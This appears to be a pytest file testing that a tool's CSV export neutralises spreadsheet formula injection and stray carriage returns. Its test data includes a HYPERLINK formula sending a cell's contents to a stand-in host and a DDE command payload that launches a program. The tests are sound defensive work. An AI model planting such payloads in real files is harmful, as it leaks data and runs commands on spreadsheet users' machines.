"""The per-question export of `kag stats` (kag/render/export.py) on hostile texts: cells a
spreadsheet would run as formulas, carriage returns; read back with the csv module."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from kag.cli import app
from kag.results import ErrorResult, OkResult, result_path, write_result

runner = CliRunner()
# What OWASP lists as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# (question, response): each response is hostile in CSV; q9 is an error file.
RESPONSES = {
    "q1": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "q2": "+1+1",
    "q3": "-2+3",
    "q4": "@SUM(A1:A9)",
    "q5": "\t=1+1",
    "q6": "\r=1+1",
    "q7": "a\rb\rc",  # bare carriage returns inside a cell
    "q8": "plain, with 'quotes' and \"doubles\"\n",
}


def write_tree(tmp_path: Path) -> tuple[Path, Path]:
    datasets = tmp_path / "datasets.json"
    mcq = {"input": "?", "output": {"type": "MCQ", "options": {"a": "x", "b": "y"}, "answer": "a"}}
    open_q = {"input": "?", "output": {"type": "Open", "answers": ["-5", "=1"]}}
    entries = {q: mcq for q in [*RESPONSES, "q9"]}
    datasets.write_text(json.dumps({"ds": entries, "=ds": {"o1": open_q}}))
    root = tmp_path / "results"
    for question, response in RESPONSES.items():
        write_result(result_path(root, "ds", question, "", "=cmd|' -C calc'!A0"), OkResult(response), root)
    write_result(result_path(root, "ds", "q9", "", "=cmd|' -C calc'!A0"), ErrorResult("boom"), root)
    write_result(result_path(root, "=ds", "o1", "", "@s"), OkResult("-5"), root)
    return datasets, root


def export(tmp_path: Path, fmt: str):
    datasets, root = write_tree(tmp_path)
    result = runner.invoke(app, ["stats", "-d", str(datasets), "-r", str(root), "--format", fmt])
    assert result.exit_code == 0, result.stderr
    return result


def test_formula_cells_get_a_quote_in_front_and_parse_back_row_for_row(tmp_path: Path):
    result = export(tmp_path, "csv")
    # stdout_bytes: click's `stdout` turns \r\n into \n
    rows = list(csv.reader(io.StringIO(result.stdout_bytes.decode(), newline="")))
    assert len(rows) == 1 + len(RESPONSES) + 2  # the header, every file, no row split by a \r
    assert all(len(row) == len(rows[0]) for row in rows)
    header = rows[0]
    by_question = {row[header.index("question")]: dict(zip(header, row)) for row in rows[1:]}
    for question, response in RESPONSES.items():
        row = by_question[question]
        expected = "'" + response if response.startswith(FORMULA_STARTS) else response
        assert row["response"] == expected
        assert row["setup"] == "'=cmd|' -C calc'!A0"
    assert by_question["q9"]["response"] == "" and by_question["q9"]["outcome"] == "ERR"
    opened = by_question["o1"]
    assert (opened["dataset"], opened["setup"], opened["response"]) == ("'=ds", "'@s", "'-5")
    assert opened["gold"] == "'-5 | =1" and opened["exact_match"] == "1.0"


def test_no_cell_outside_quotes_starts_a_formula_or_holds_a_bare_carriage_return(tmp_path: Path):
    text = export(tmp_path, "csv").stdout_bytes.decode()
    # every \r of the output is inside a quoted field (the csv module quotes a line feed only)
    assert "\r" in text
    fields = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in fields for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert text.count("\n") - sum(cell.count("\n") for cell in cells) == len(fields)


def test_jsonl_keeps_every_text_exact(tmp_path: Path):
    rows = [json.loads(line) for line in export(tmp_path, "jsonl").stdout.splitlines()]
    by_question = {row["question"]: row for row in rows}
    for question, response in RESPONSES.items():
        assert by_question[question]["response"] == response
        assert by_question[question]["setup"] == "=cmd|' -C calc'!A0"
    assert by_question["o1"]["dataset"] == "=ds" and by_question["o1"]["gold"] == "-5 | =1"
    assert by_question["o1"]["answer"] == "-5 | =1"  # the key of versions 1 and 2, kept


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1", "'=1"),
        ("+", "'+"),
        ("-", "'-"),
        ("@a", "'@a"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("'=1", "'=1"),
        ("", ""),
        (None, None),
        (-1, -1),
        (-0.5, -0.5),
    ],
)
def test_neutralise_cell_guards_text_that_starts_a_formula(value: object, written: object):
    from kag.render.export import neutralise_cell

    assert neutralise_cell(value) == written
